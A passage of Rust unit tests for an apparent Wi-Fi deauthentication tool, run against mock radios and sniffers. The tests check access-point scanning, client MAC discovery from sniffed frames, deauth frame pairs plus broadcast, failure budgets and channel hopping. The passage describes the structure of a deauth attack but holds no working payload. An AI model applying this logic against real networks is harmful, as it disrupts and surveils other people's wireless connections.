        let tx = Arc::new(ScriptedTx::new(0));
        let mut interceptor = make_interceptor(base_config(), vec![1, 36], batches, tx);
        interceptor.scan_channels_for_aps();

        let discovered = &interceptor.book.all_ssids[&Band::Ghz5];
        assert_eq!(discovered["Net5"].home_channel(), Some(36));
    }

    #[test]
    fn test_named_ssid_scan_short_circuits() {
        // Target found on channel 1; the sweep stops before channel 5
        // (current channel 4 is already 3 past the last-seen channel).
        let batches = vec![vec![beacon("HomeNet", mac(1), 2412)]];
        let config = InterceptorConfig {
            ssid_name: Some("HomeNet".to_string()),
            ..base_config()
        };
        let sniffer = Arc::new(ScriptedSniffer::new(batches));

        let mut interceptor = Interceptor::new(
            config,
            Box::new(RadioRef(Arc::new(MockRadio::new(vec![1, 2, 3, 4, 5, 6])))),
            Box::new(TxRef(Arc::new(ScriptedTx::new(0)))),
            Box::new(SnifferRef(Arc::clone(&sniffer))),
        )
        .unwrap();
        interceptor.scan_channels_for_aps();

        assert_eq!(sniffer.calls(), 4);
    }

    #[test]
    fn test_client_listener_appends_once() {
        let tx = Arc::new(ScriptedTx::new(0));
        let mut interceptor = make_interceptor(base_config(), vec![1, 6, 11], vec![], tx);
        let target = target_from("HomeNet", mac(1), 1);
        interceptor.target = Some(Arc::clone(&target));

        let client = mac(9);
        interceptor.handle_client_frame(&qos_data(mac(1), client));
        interceptor.handle_client_frame(&qos_data(mac(1), client));

        assert_eq!(target.clients.lock().as_slice(), &[client]);
        assert_eq!(interceptor.midrun_buffer.lock().len(), 1);
    }

    #[test]
    fn test_client_listener_skips_broadcast_ap_and_foreign_frames() {
        let tx = Arc::new(ScriptedTx::new(0));
        let mut interceptor = make_interceptor(base_config(), vec![1, 6, 11], vec![], tx);
        let target = target_from("HomeNet", mac(1), 1);
        interceptor.target = Some(Arc::clone(&target));

        // Broadcast client, the AP itself, and a frame for another AP.
        interceptor.handle_client_frame(&qos_data(mac(1), MacAddr::broadcast()));
        interceptor.handle_client_frame(&qos_data(mac(1), mac(1)));
        interceptor.handle_client_frame(&qos_data(mac(2), mac(9)));
        // Unconfirmed frame kind.
        interceptor.handle_client_frame(&SniffedFrame {
            kind: FrameKind::AssocResponse { status: 17 },
            ..qos_data(mac(1), mac(9))
        });

        assert!(target.clients.lock().is_empty());
    }

    #[test]
    fn test_client_filter_annotates_notice() {
        let config = InterceptorConfig {
            client_macs: vec![mac(9)],
            ..base_config()
        };
        let tx = Arc::new(ScriptedTx::new(0));
        let mut interceptor = make_interceptor(config, vec![1, 6, 11], vec![], tx);
        let target = target_from("HomeNet", mac(1), 1);
        interceptor.target = Some(Arc::clone(&target));

        interceptor.handle_client_frame(&qos_data(mac(1), mac(9)));
        interceptor.handle_client_frame(&qos_data(mac(1), mac(8)));

        let buffer = interceptor.midrun_buffer.lock();
        assert!(buffer[0].ends_with("true"));
        assert!(buffer[1].ends_with("false"));
    }

    #[test]
    fn test_deauth_iteration_sends_pair_and_broadcast() {
        let tx = Arc::new(ScriptedTx::new(0));
        let mut interceptor =
            make_interceptor(base_config(), vec![1, 6, 11], vec![], Arc::clone(&tx));
        let target = target_from("HomeNet", mac(1), 1);
        target.clients.lock().push(mac(9));
        interceptor.target = Some(Arc::clone(&target));

        let mut cycle = ChannelCycle::new(vec![1]);
        interceptor
            .deauth_iteration(mac(1), &target, &mut cycle)
            .unwrap();

        // One discovered client: AP->client + client->AP + broadcast.
        assert_eq!(tx.calls(), 3);
        assert_eq!(interceptor.attack_loop_count.load(Ordering::Relaxed), 1);
    }

    #[test]
    fn test_deauth_iteration_custom_clients_disable_broadcast() {
        let config = InterceptorConfig {
            client_macs: vec![mac(8), mac(9)],
            ..base_config()
        };
        let tx = Arc::new(ScriptedTx::new(0));
        let mut interceptor = make_interceptor(config, vec![1, 6, 11], vec![], Arc::clone(&tx));
        let target = target_from("HomeNet", mac(1), 1);
        interceptor.target = Some(Arc::clone(&target));

        let mut cycle = ChannelCycle::new(vec![1]);
        interceptor
            .deauth_iteration(mac(1), &target, &mut cycle)
            .unwrap();

        // Two explicit clients, a frame pair each, no broadcast.
        assert_eq!(tx.calls(), 4);
    }

    #[test]
    fn test_deauth_failure_budget_aborts_after_limit() {
        let tx = Arc::new(ScriptedTx::new(u32::MAX));
        let mut interceptor =
            make_interceptor(base_config(), vec![1], vec![], Arc::clone(&tx));
        interceptor.target = Some(target_from("HomeNet", mac(1), 1));

        // Every iteration sends only the broadcast frame and fails.
        let result = interceptor.deauth_loop(Duration::from_millis(1), 50);
        assert!(result.is_err());
        assert_eq!(tx.calls(), 50);
    }

    #[test]
    fn test_deauth_failure_counter_resets_on_success() {
        let abort = AbortToken::new();
        let tx = Arc::new(ScriptedTx::new(49));
        *tx.abort_on_success.lock() = Some(abort.clone());

        let mut interceptor =
            make_interceptor(base_config(), vec![1], vec![], Arc::clone(&tx));
        interceptor.abort = abort;
        interceptor.target = Some(target_from("HomeNet", mac(1), 1));

        // 49 failures, then a success that resets the counter and trips the
        // token: the loop must exit cleanly instead of reporting the budget.
        let result = interceptor.deauth_loop(Duration::from_millis(1), 50);
        assert!(result.is_ok());
        assert_eq!(tx.calls(), 50);
    }

    #[test]
    fn test_deauth_all_channels_hops_cyclically() {
        let config = InterceptorConfig {
            deauth_all_channels: true,
            client_macs: vec![mac(9)],
            ..base_config()
        };
        let radio = Arc::new(MockRadio::new(vec![1, 6, 11]));
        let tx = Arc::new(ScriptedTx::new(0));

        let mut interceptor = Interceptor::new(
            config,
            Box::new(RadioRef(Arc::clone(&radio))),
            Box::new(TxRef(Arc::clone(&tx))),
            Box::new(SnifferRef(Arc::new(ScriptedSniffer::new(vec![])))),
        )
        .unwrap();
        let target = target_from("HomeNet", mac(1), 1);
        interceptor.target = Some(Arc::clone(&target));

        let mut cycle = ChannelCycle::new(interceptor.channel_range());
        for _ in 0..5 {
            interceptor
                .deauth_iteration(mac(1), &target, &mut cycle)
                .unwrap();
        }

        assert_eq!(radio.tuned.lock().clone(), vec![1, 6, 11, 1, 6]);
        assert_eq!(interceptor.attack_loop_count.load(Ordering::Relaxed), 5);
    }
}
